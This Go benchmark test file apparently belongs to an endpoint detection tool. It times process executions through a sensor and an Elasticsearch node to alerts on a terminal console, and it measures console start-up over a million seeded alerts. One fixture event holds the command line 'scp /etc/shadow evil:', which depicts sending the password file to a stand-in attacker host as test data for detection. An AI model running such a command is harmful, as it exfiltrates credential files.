package main

import (
	"bufio"
	"database/sql"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"interdict/testdata/bench"
	"interdict/testdata/elasticsearch"
)

// arrivals remembers when a marked execution was first told of.
type arrivals struct {
	mu   sync.Mutex
	when map[string]time.Time
	more chan struct{}
}

func newArrivals() *arrivals {
	return &arrivals{when: map[string]time.Time{}, more: make(chan struct{}, 1)}
}

func (a *arrivals) at(mark string) (time.Time, bool) {
	a.mu.Lock()
	defer a.mu.Unlock()
	at, ok := a.when[mark]
	return at, ok
}

func (a *arrivals) note(mark string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if _, known := a.when[mark]; !known {
		a.when[mark] = time.Now()
	}
	select {
	case a.more <- struct{}{}:
	default:
	}
}

// read takes the marks out of alerts, a line each.
func (a *arrivals) read(from io.Reader) {
	lines := bufio.NewScanner(from)
	lines.Buffer(nil, 1<<20)
	for lines.Scan() {
		_, rest, found := strings.Cut(lines.Text(), "probe-")
		if number, _, ok := strings.Cut(rest, "-end"); found && ok {
			a.note(number)
		}
	}
}

func (a *arrivals) wait(t *testing.T, mark string) time.Time {
	t.Helper()
	late := time.After(time.Minute)
	for {
		if at, ok := a.at(mark); ok {
			return at
		}
		select {
		case <-a.more:
		case <-late:
			t.Fatalf("nothing told of probe %s", mark)
		}
	}
}

// begin starts a command that ends with the test.
func begin(t *testing.T, cmd *exec.Cmd) {
	t.Helper()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Signal(syscall.SIGINT); cmd.Wait() })
}

// From the execution of a transfer tool on a sensed host, over a real node, to its
// alert at a console that knows only the cluster, and where the time goes.
func TestMeasureClusterFromExecutionToAlert(t *testing.T) {
	bench.Wanted(t)
	const probes = 60
	program, node := built(t), elasticsearch.Start(t)
	group, into := enclosed(t)
	config, namespace := configOf(t, node, node.URL)
	stream := "logs-endpoint.events.process-" + namespace
	tool := filepath.Join(t.TempDir(), "scp")
	if err := os.Rename(bench.Noop(t), tool); err != nil {
		t.Fatal(err)
	}
	run := func(i int) time.Time {
		began := time.Now()
		pid, err := syscall.ForkExec(tool, []string{"scp", fmt.Sprintf("probe-%d-end", i), fmt.Sprintf("host-%d:", i)}, &syscall.ProcAttr{Sys: into})
		if err != nil {
			t.Fatal(err)
		}
		syscall.Wait4(pid, nil, 0, nil)
		return began
	}
	sensor := exec.Command(program, "--config", config, "sensor", "--to", "elasticsearch:lab", "--scope", group, "--spool", filepath.Join(t.TempDir(), "spool"))
	begin(t, sensor)
	soon(t, "the sensor", time.Minute, func() bool {
		run(0)
		answer, err := node.Do("GET", "/"+stream+"/_count", "")
		return err == nil && !strings.Contains(string(answer.Body), `"count":0,`)
	})
	told := newArrivals()
	watch := exec.Command(program, "--config", config, "watch", "--source", "elasticsearch:lab")
	out, err := watch.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	begin(t, watch)
	go told.read(out)
	told.wait(t, "0")
	console := startTerminal(t, 120, 40, program, "--config", config, "--state", t.TempDir(), "--source", "elasticsearch:lab")
	console.wait("the first screen with an alert", `STANDING`, `[1-9]\d* (ended|running|sending)`)
	before := alerts(console.screen.String())

	var watched, painted, found []float64
	began := make([]time.Time, probes+1)
	for i := 1; i <= probes; i++ {
		<-time.After(time.Duration(100+i*37%900) * time.Millisecond) // at any moment of a second
		began[i] = run(i)
		for !strings.Contains(count(t, node, stream, i), `"count":1,`) {
			<-time.After(5 * time.Millisecond)
		}
		found = append(found, milliseconds(time.Since(began[i])))
		watched = append(watched, milliseconds(told.wait(t, strconv.Itoa(i)).Sub(began[i])))
		console.waitFor("alert "+strconv.Itoa(i), func(screen string) bool { return alerts(screen) >= before+i })
		painted = append(painted, milliseconds(time.Since(began[i])))
	}
	shipped := shippedAfter(t, node, stream, began)
	for q, most := range map[float64]float64{0.5: 1, 0.95: 0, 0.99: 0} {
		tell := func(name string, all []float64, most float64) {
			bench.Tell(t, bench.Figure{Name: fmt.Sprintf("execution to %s, p%.0f of %d", name, 100*q, len(all)), Value: bench.Quantile(all, q), Unit: "ms",
				Peer: "the refresh interval and a second", PeerValue: 2000, Most: most})
		}
		tell("the sensor's request to the cluster", shipped, 0)
		tell("where a search finds it", found, 0)
		tell("its alert, as watch prints it", watched, most)
		tell("its alert on the screen", painted, most)
	}
	bench.Tell(t, bench.Figure{Name: "anonymous memory of the sensor", Value: status(t, sensor.Process.Pid, "RssAnon") / 1024, Unit: "MiB"})
	bench.Tell(t, bench.Figure{Name: "anonymous memory of the console", Value: status(t, console.pid, "RssAnon") / 1024, Unit: "MiB"})
}

func count(t *testing.T, node *elasticsearch.Node, stream string, i int) string {
	t.Helper()
	answer, err := node.Do("POST", "/"+stream+"/_count", fmt.Sprintf(`{"query":{"bool":{"filter":[{"term":{"process.args":"probe-%d-end"}},{"term":{"event.action":"exec"}}]}}}`, i))
	if err != nil {
		t.Fatal(err)
	}
	return string(answer.Body)
}

// shippedAfter is how long after an execution the sensor sent it, by what it said of that.
func shippedAfter(t *testing.T, node *elasticsearch.Node, stream string, began []time.Time) (out []float64) {
	t.Helper()
	answer, err := node.Do("POST", "/"+stream+"/_search?size=1000", `{"query":{"term":{"event.action":"exec"}}}`)
	if err != nil {
		t.Fatal(err)
	}
	var found struct {
		Hits struct {
			Hits []struct {
				Source struct {
					Process  struct{ Args []string }
					Ingested time.Time `json:"event.ingested"`
				} `json:"_source"`
			}
		}
	}
	if err := json.Unmarshal(answer.Body, &found); err != nil {
		t.Fatal(err)
	}
	for _, h := range found.Hits.Hits {
		var i int
		for _, arg := range h.Source.Process.Args {
			if n, _ := fmt.Sscanf(arg, "probe-%d-end", &i); n == 1 && i > 0 {
				out = append(out, milliseconds(h.Source.Ingested.Sub(began[i])))
			}
		}
	}
	if len(out) != len(began)-1 {
		t.Errorf("%d of %d executions were found", len(out), len(began)-1)
	}
	return out
}

// fill puts documents into an index, each made from its number.
func fill(t *testing.T, node *elasticsearch.Node, index string, n int, document func(i int) string) {
	t.Helper()
	const each = 2000
	for from := 0; from < n; from += each {
		var bulk strings.Builder
		for i := from; i < min(from+each, n); i++ {
			fmt.Fprintf(&bulk, "{\"create\":{\"_id\":\"%08d\"}}\n%s\n", i, document(i))
		}
		answer, err := node.Do("POST", "/"+index+"/_bulk?filter_path=errors", bulk.String())
		for answer.Status == http.StatusTooManyRequests { // its heap is small; nothing of this was taken
			<-time.After(time.Second)
			answer, err = node.Do("POST", "/"+index+"/_bulk?filter_path=errors", bulk.String())
		}
		if err != nil || strings.Contains(string(answer.Body), "true") {
			t.Fatalf("%v: %.300s", err, answer.Body)
		}
	}
	if _, err := node.Do("POST", "/"+index+"/_refresh", ""); err != nil {
		t.Fatal(err)
	}
}

// The start of a console over a cluster with a million alerts of Elastic Security,
// and as many about which somebody said something.
func TestMeasureClusterConsoleStart(t *testing.T) {
	bench.Wanted(t)
	n := 1_000_000
	if v := os.Getenv("INTERDICT_BENCH_ALERTS"); v != "" {
		var err error
		if n, err = strconv.Atoi(v); err != nil {
			t.Fatal(err)
		}
	}
	const alertsIndex, sharedIndex = ".alerts-security.alerts-default", "interdict-alerts"
	program, node := built(t), elasticsearch.Start(t)
	config, namespace := configOf(t, node, node.URL)
	b, err := os.ReadFile(config)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(config, append([]byte("store = \"elasticsearch:lab\"\n"), b...), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, index := range []string{alertsIndex, sharedIndex, "interdict-cases", "interdict-exceptions", "interdict-heads"} {
		if _, err := node.Do("GET", "/"+index, ""); err == nil {
			t.Skipf("%s is there already: this wants a node of its own", index)
		}
		t.Cleanup(func() { node.Do("DELETE", "/"+index, "") })
	}
	put := func(method, path, body string) {
		t.Helper()
		if _, err := node.Do(method, path, body); err != nil {
			t.Fatal(err)
		}
	}
	put("PUT", "/"+alertsIndex, `{"settings":{"number_of_replicas":0,"refresh_interval":"-1"},"mappings":{"dynamic_templates":[{"strings":{"match_mapping_type":"string","mapping":{"type":"keyword"}}}],"properties":{"@timestamp":{"type":"date"}}}}`)
	event := `{"create":{}}` + "\n" + fmt.Sprintf(`{"@timestamp":%q,"agent":{"id":"a7"},"host":{"id":"h7","name":"web-7","os":{"type":"linux"}},"event":{"id":"e1","kind":"event","category":["process"],"type":["start"],"action":"exec","dataset":"endpoint.events.process"},"data_stream":{"type":"logs","dataset":"endpoint.events.process","namespace":%q},"process":{"pid":77,"entity_id":"p77","name":"scp","executable":"/usr/bin/scp","command_line":"scp /etc/shadow evil:","args":["scp","/etc/shadow","evil:"],"parent":{"pid":70,"entity_id":"p70","name":"bash","executable":"/bin/bash"}}}`,
		time.Now().UTC().Add(-time.Minute).Format(time.RFC3339), namespace) + "\n"
	put("PUT", "/logs-endpoint.events.process-"+namespace, `{"mappings":{"dynamic_templates":[{"strings":{"match_mapping_type":"string","mapping":{"type":"keyword"}}}],"properties":{"@timestamp":{"type":"date"}}}}`)
	t.Cleanup(func() { node.Do("DELETE", "/logs-endpoint.events.process-"+namespace, "") })
	put("POST", "/logs-endpoint.events.process-"+namespace+"/_bulk?refresh=true", event)

	start := func() (first, alert float64, console *terminal, state string) {
		state = t.TempDir()
		began := time.Now()
		console = startTerminal(t, 120, 40, program, "--config", config, "--state", state, "--source", "elasticsearch:lab")
		console.wait("the first screen", `interdict`, `STANDING`)
		first = milliseconds(time.Since(began))
		soon(t, "the alert", 3*time.Minute, func() bool { return strings.Contains(console.screen.String(), "scp ◂ bash") })
		return first, milliseconds(time.Since(began)), console, state
	}
	var firstBare, alertBare, first, alert []float64
	for range 5 {
		f, a, console, _ := start()
		firstBare, alertBare = append(firstBare, f), append(alertBare, a)
		console.press("q")
		<-console.ended
	}
	recent := time.Now().UTC().Add(-time.Hour).Format(time.RFC3339)
	fill(t, node, alertsIndex, n, func(i int) string {
		return fmt.Sprintf(`{"@timestamp":%q,"host.id":"h%d","kibana.alert.rule.name":"rule %d","kibana.alert.severity":"low","kibana.alert.uuid":"%d"}`, recent, i%500, i%90, i)
	})
	fill(t, node, sharedIndex, n, func(i int) string {
		return fmt.Sprintf(`{"document":{"v":1,"triage":{"thread":"T%d","state":"closed","reason":"benign","by":"ana","at":"2026-01-02T03:04:05Z","revision":2,"up_to":"2026-01-02T03:04:05Z"},"log":[{"id":"%d","by":"ana","kind":"closed","at":"2026-01-02T03:04:05Z"}]}}`, i, i)
	})
	for i := range 5 {
		f, a, console, state := start()
		first, alert = append(first, f), append(alert, a)
		if i == 4 {
			began := time.Now()
			soon(t, "what was said last", 5*time.Minute, func() bool { return taken(t, state) >= min(n, 99_000) })
			bench.Tell(t, bench.Figure{Name: "until what others said last is known", Value: time.Since(began).Seconds(), Unit: "s"})
			bench.Tell(t, bench.Figure{Name: "documents of " + strconv.Itoa(n) + " that a console takes over", Value: float64(taken(t, state)), Unit: "documents", Peer: "all", PeerValue: float64(n)})
			bench.Tell(t, bench.Figure{Name: "anonymous memory of the console", Value: status(t, console.pid, "RssAnon") / 1024, Unit: "MiB"})
		}
		console.press("q")
		<-console.ended
	}
	tell := func(name string, with, without []float64, most float64) {
		bench.Tell(t, bench.Figure{Name: fmt.Sprintf("%s on a cluster with %d alerts", name, n), Value: bench.Median(with), Unit: "ms", Peer: "without any", PeerValue: bench.Median(without), Most: most})
	}
	tell("first screen", first, firstBare, 3)
	tell("first alert", alert, alertBare, 3)
}

// taken is how many documents of others a console has.
func taken(t *testing.T, state string) (n int) {
	t.Helper()
	db, err := sql.Open("sqlite", "file:"+filepath.Join(state, "interdict.db")+"?mode=ro&_pragma=busy_timeout(5000)")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if err := db.QueryRowContext(t.Context(), `SELECT COUNT(*) FROM documents`).Scan(&n); err != nil {
		return 0 // not made yet
	}
	return n
}
